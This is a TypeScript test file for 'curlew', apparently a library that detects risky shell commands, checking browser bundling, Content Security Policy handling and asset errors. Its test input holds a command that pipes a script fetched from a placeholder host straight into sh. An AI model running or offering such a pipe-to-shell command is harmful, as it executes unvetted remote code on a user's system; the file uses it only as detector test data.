import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bundlers } from "./bundles.js";
import { Installation } from "./installation.js";
import { Pages } from "./pages.js";

let installation: Installation;
beforeAll(() => {
  installation = Installation.make();
});
afterAll(() => installation.remove());

const text = "Run `curl -fsSL https://x.example/i.sh | sh` now";

describe("the library in a web page", () => {
  const POLICY = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'";
  const page = (options: string): string => `import { createBrowserDetector } from "curlew/browser";
    createBrowserDetector(${options}).then(
      (detector) => (document.title = JSON.stringify(detector.detect(${JSON.stringify(text)}).spans)),
      (error) => (document.title = error.name + " " + error.code + ": " + error.message),
    );`;

  let pages: Pages;
  beforeAll(async () => {
    const out = installation.path("out");
    mkdirSync(out);
    installation.write("plain.js", page(""));
    installation.write("with-address.js", page('{ assetsUrl: "./files/" }'));
    await bundlers.webpack(installation.folder, "plain.js", join(out, "webpack"));
    await bundlers.vite(installation.folder, "plain.js", join(out, "vite"));
    await bundlers.esbuild(installation.folder, "with-address.js", join(out, "esbuild"));
    await bundlers.esbuild(installation.folder, "plain.js", join(out, "esbuild-without"));
    expect(installation.curlew(["assets", "out/esbuild/files"])).toMatchObject({
      status: 0,
      stdout: expect.stringMatching(/^\d+ files in out\/esbuild\/files\n$/),
    });
    pages = await Pages.start(out);
  });
  afterAll(() => pages.close());

  it.each(["webpack", "vite", "esbuild"])(
    "is bundled by %s, and runs under a policy that allows 'self' and 'wasm-unsafe-eval'",
    async (bundler) => {
      expect(await pages.title(bundler, POLICY)).toBe("[[5,43]]");
    },
  );

  it("throws an error that names 'wasm-unsafe-eval' if the policy does not allow it", async () => {
    expect(await pages.title("webpack", "default-src 'self'")).toMatch(
      /^AssetError wasm-forbidden: .*add 'wasm-unsafe-eval' to its script-src$/,
    );
  });

  it("throws an error that says what to do if its files are missing", async () => {
    expect(await pages.title("esbuild-without", POLICY)).toMatch(
      /^AssetError asset-missing: .*status 404; write the files with `npx curlew assets FOLDER`/,
    );
  });
});
